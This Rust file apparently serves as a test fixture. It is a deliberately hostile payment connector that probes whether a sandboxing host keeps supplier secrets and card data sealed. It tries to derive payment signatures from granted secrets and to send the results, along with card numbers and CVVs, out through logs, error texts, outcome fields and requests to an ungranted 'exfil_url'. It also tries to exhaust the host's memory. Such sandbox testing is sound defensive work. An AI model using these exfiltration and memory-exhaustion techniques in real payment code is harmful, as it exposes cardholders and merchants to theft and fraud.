//! A hostile connector for contract 0.3.0, written against the raw bindings
//! as an attacker would (no SDK to hold it back). It is granted the four
//! suppliers' real secrets and tries to obtain, for each, what would pay an
//! order without the host: HK Ramble's static `sign`, Nemo's `payment/bill`
//! signature for a booking it picks, AeroHub's signature for a timestamp a
//! month ahead, the MD5 / SHA-256 / HMAC of each secret, a decryption under
//! a secret key, and a secret's length from error texts; and the card
//! number and CVV of a card payment.
//!
//! Whatever it obtains, it tries to get out: in every outcome field, the
//! log, standard output and standard error, an error text, a request to a
//! host it was not granted, and placements the host must refuse (a sealed
//! value in a URL's path, in a header unencoded, in a query unencoded).
//!
//! Each attempt's result is a detail: `bytes:<hex>` (a leak), `sealed`,
//! `refused:<error>`, `sent:<status>`.

#![allow(unsafe_code)]

mod bindings {
    #![allow(missing_docs, unused_qualifications, clippy::all)]
    wit_bindgen::generate!({
        path: "../../../wit",
        world: "payment-connector",
    });
}

use bindings::exports::payhost::connector::connector::Guest;
use bindings::payhost::connector::crypto::{self, Output};
use bindings::payhost::connector::types::{
    ConnectorError, ConnectorInfo, Encoding, ErrorKind, MethodKind, Part, PaymentMethod,
    PaymentOutcome, PaymentRequest, PaymentState, Sealed, SealedRef, SecretRef,
};
use bindings::payhost::connector::{clock, config, http, log};

struct Thief;

const SECRETS: [&str; 4] = [
    "hk_secret_key",
    "nemo_security_key",
    "aerohub_secret",
    "atlas_client_secret",
];

fn lit(text: &str) -> Part<'static> {
    Part::Literal(text.as_bytes().to_vec())
}

fn secret(name: &str) -> Part<'static> {
    Part::Secret(SecretRef {
        name: name.to_owned(),
        encoding: Encoding::Raw,
    })
}

fn sealed(value: &Sealed, encoding: Encoding) -> Part<'_> {
    Part::Sealed(SealedRef { value, encoding })
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// What an attempt got, and the sealed value when it got one.
fn shown(result: Result<Output, crypto::CryptoError>) -> (String, Option<Sealed>) {
    match result {
        Ok(Output::Bytes(bytes)) => (format!("bytes:{}", hex(&bytes)), None),
        Ok(Output::Sealed(value)) => ("sealed".to_owned(), Some(value)),
        Err(e) => (format!("refused:{e:?}"), None),
    }
}

fn send(method: http::Method, url: Vec<Part<'_>>, headers: Vec<http::Header<'_>>) -> String {
    match http::send(&http::Request {
        method,
        url,
        headers,
        body: Vec::new(),
        timeout_ms: Some(2000),
    }) {
        Ok(response) => format!(
            "sent:{} {}",
            response.status,
            String::from_utf8_lossy(&response.body)
                .chars()
                .take(64)
                .collect::<String>()
        ),
        Err(e) => format!("refused:{e:?}"),
    }
}

/// Tries every way out for one sealed value; each result is a detail.
fn exfiltrate(name: &str, value: &Sealed, details: &mut Vec<(String, String)>) {
    let base = config::get("base_url").unwrap_or_default();
    let exfil = config::get("exfil_url").unwrap_or_default();
    let dead = config::get("dead_url").unwrap_or_default();
    let tries: Vec<(&str, String)> = vec![
        (
            // Granted, but nobody listens: the connection error must not
            // quote the URL it was for.
            "dead-origin-query",
            send(
                http::Method::Get,
                vec![lit(&format!("{dead}/x?v=")), sealed(value, Encoding::Hex)],
                Vec::new(),
            ),
        ),
        (
            "ungranted-host",
            send(
                http::Method::Get,
                vec![
                    lit(&format!("{exfil}/steal?v=")),
                    sealed(value, Encoding::Hex),
                ],
                Vec::new(),
            ),
        ),
        (
            "url-path",
            send(
                http::Method::Get,
                vec![lit(&format!("{base}/")), sealed(value, Encoding::Hex)],
                Vec::new(),
            ),
        ),
        (
            "query-raw",
            send(
                http::Method::Get,
                vec![lit(&format!("{base}/x?v=")), sealed(value, Encoding::Raw)],
                Vec::new(),
            ),
        ),
        (
            "header-raw",
            send(
                http::Method::Get,
                vec![lit(&format!("{exfil}/x"))],
                vec![http::Header {
                    name: "x-v".into(),
                    value: vec![sealed(value, Encoding::Raw)],
                }],
            ),
        ),
    ];
    for (how, result) in tries {
        details.push((format!("{name}-out-{how}"), result));
    }
}

/// Reports everything everywhere it can: outcome, log, stdout, stderr.
fn report(details: &[(String, String)]) {
    for (k, v) in details {
        log::log(
            log::Level::Warn,
            &format!("{k}={v}"),
            &[(k.clone(), v.clone())],
        );
        println!("{k}={v}");
        eprintln!("{k}={v}");
    }
}

impl Guest for Thief {
    fn info() -> ConnectorInfo {
        ConnectorInfo {
            name: "thief".into(),
            version: "0.2.0".into(),
            supplier: "Nobody".into(),
            methods: vec![MethodKind::Balance, MethodKind::Card],
            secrets: SECRETS.iter().map(|s| (*s).to_owned()).collect(),
            config_keys: vec![
                "base_url".into(),
                "dead_url".into(),
                "exfil_url".into(),
                "partner_id".into(),
                "aerohub_key".into(),
            ],
            hosts: vec!["config:base_url".into(), "config:dead_url".into()],
            placements: vec![],
        }
    }

    fn pay(request: PaymentRequest) -> PaymentOutcome {
        let mut details = Vec::new();
        // A length oracle: which literal prefix makes a 32-byte key with the
        // secret? Every answer must be the same.
        let mut answers: Vec<String> = Vec::new();
        for k in 0..=32 {
            let (text, _) = shown(crypto::aes256_cbc_encrypt(
                &[Part::Literal(vec![0; k]), secret("hk_secret_key")],
                &[0; 16],
                &[lit("x")],
            ));
            if !answers.contains(&text) {
                answers.push(text);
            }
        }
        details.push(("key-prefixes".into(), answers.join("|")));
        let mut keep = Vec::new();
        let partner = config::get("partner_id").unwrap_or_default();
        let aero_key = config::get("aerohub_key").unwrap_or_default();
        let month_ahead = clock::now().seconds + 30 * 86_400;

        let mut attempts: Vec<(String, Result<Output, crypto::CryptoError>)> = vec![
            (
                "hk-sign".into(),
                crypto::md5(&[lit(&partner), secret("hk_secret_key")]),
            ),
            (
                "nemo-sig-chosen".into(),
                crypto::md5(&[lit("777001"), secret("nemo_security_key")]),
            ),
            (
                "aero-sig-future".into(),
                crypto::aes256_cbc_encrypt(
                    &[secret("aerohub_secret")],
                    &[0; 16],
                    &[lit(&format!("{aero_key}&{month_ahead}"))],
                ),
            ),
        ];
        for name in SECRETS {
            attempts.push((format!("md5-{name}"), crypto::md5(&[secret(name)])));
            attempts.push((format!("sha256-{name}"), crypto::sha256(&[secret(name)])));
            attempts.push((
                format!("hmac-chosen-key-{name}"),
                crypto::hmac_sha256(&[lit("k")], &[secret(name)]),
            ));
            attempts.push((
                format!("hmac-secret-key-{name}"),
                crypto::hmac_sha256(&[secret(name)], &[lit("chosen")]),
            ));
            attempts.push((
                format!("aes-key-{name}"),
                crypto::aes256_cbc_encrypt(&[secret(name)], &[0; 16], &[lit("x")]),
            ));
            attempts.push((
                format!("decrypt-good-{name}"),
                crypto::aes256_cbc_decrypt(
                    &[secret(name)],
                    &[0; 16],
                    &[Part::Literal(vec![7; 32])],
                ),
            ));
            attempts.push((
                format!("decrypt-short-{name}"),
                crypto::aes256_cbc_decrypt(
                    &[secret(name)],
                    &[0; 16],
                    &[Part::Literal(vec![7; 20])],
                ),
            ));
            attempts.push((
                format!("encrypt-secret-{name}"),
                crypto::aes256_cbc_encrypt(&[lit(&"k".repeat(32))], &[0; 16], &[secret(name)]),
            ));
        }
        if let PaymentMethod::Card(card) | PaymentMethod::MerchantOfRecord(card) = &request.method {
            details.push((
                "card-seen".into(),
                format!("{} {}", card.first_six, card.last_four),
            ));
            attempts.push((
                "md5-card".into(),
                crypto::md5(&[sealed(&card.number, Encoding::Raw)]),
            ));
            if let Some(cvv) = &card.cvv {
                attempts.push(("md5-cvv".into(), crypto::md5(&[sealed(cvv, Encoding::Raw)])));
                exfiltrate("cvv", cvv, &mut details);
            }
            exfiltrate("card", &card.number, &mut details);
        }
        for (name, result) in attempts {
            let (text, value) = shown(result);
            details.push((name.clone(), text));
            if let Some(value) = value {
                // Sealed: does hashing it again give bytes?
                if !name.contains('_') {
                    let (again, _) = shown(crypto::sha256(&[sealed(&value, Encoding::Raw)]));
                    details.push((format!("{name}-rehash"), again));
                }
                keep.push((name, value));
            }
        }
        for (name, value) in &keep {
            exfiltrate(name, value, &mut details);
        }
        // A derived value in an encoding whose length depends on its
        // content, to a granted origin: refused by encoding.
        if let Some((_, sign)) = keep.iter().find(|(n, _)| n == "hk-sign") {
            let base = config::get("base_url").unwrap_or_default();
            for (name, encoding, in_query) in [
                ("derived-url-query", Encoding::UrlComponent, true),
                ("derived-json-body", Encoding::JsonString, false),
                ("derived-xml-body", Encoding::XmlText, false),
            ] {
                let part = sealed(sign, encoding);
                let result = if in_query {
                    send(
                        http::Method::Get,
                        vec![lit(&format!("{base}/x?v=")), part],
                        Vec::new(),
                    )
                } else {
                    match http::send(&http::Request {
                        method: http::Method::Post,
                        url: vec![lit(&format!("{base}/x"))],
                        headers: Vec::new(),
                        body: vec![part],
                        timeout_ms: Some(2000),
                    }) {
                        Ok(r) => format!("sent:{}", r.status),
                        Err(e) => format!("refused:{e:?}"),
                    }
                };
                details.push((format!("hk-sign-{name}"), result));
            }
        }
        // Double a sealed value until the host's memory is full.
        let mut doubling = "never refused".to_owned();
        if let (_, Some(mut value)) = shown(crypto::md5(&[secret("hk_secret_key")])) {
            for step in 0..64 {
                let twice = crypto::aes256_cbc_encrypt(
                    &[lit(&"k".repeat(32))],
                    &[0; 16],
                    &[sealed(&value, Encoding::Raw), sealed(&value, Encoding::Raw)],
                );
                match twice {
                    Ok(Output::Sealed(next)) => value = next,
                    other => {
                        doubling = format!("refused at {step}: {:?}", other.err());
                        break;
                    }
                }
            }
        }
        details.push(("doubling".into(), doubling));
        // Fill the host's memory with sealed values.
        let mut flood = Vec::new();
        let mut stopped = "never refused".to_owned();
        for i in 0..5000 {
            match crypto::md5(&[secret("hk_secret_key")]) {
                Ok(output) => flood.push(output),
                Err(e) => {
                    stopped = format!("refused at {i}: {e:?}");
                    break;
                }
            }
        }
        details.push(("seal-flood".into(), stopped));
        report(&details);
        let all: String = details.iter().map(|(k, v)| format!("{k}={v};")).collect();
        PaymentOutcome {
            state: PaymentState::Failed,
            supplier_reference: Some(all.chars().take(200).collect()),
            charged: None,
            supplier_code: Some(all.chars().take(64).collect()),
            supplier_message: Some(all.chars().take(2000).collect()),
            error: Some(ConnectorError {
                kind: ErrorKind::Declined,
                retryable: false,
                supplier_code: None,
                message: all.chars().take(2000).collect(),
            }),
            details,
        }
    }

    fn query(order_id: String) -> Result<PaymentOutcome, ConnectorError> {
        Err(ConnectorError {
            kind: ErrorKind::Unsupported,
            retryable: false,
            supplier_code: None,
            message: format!("cannot query {order_id}"),
        })
    }
}

bindings::export!(Thief with_types_in bindings);
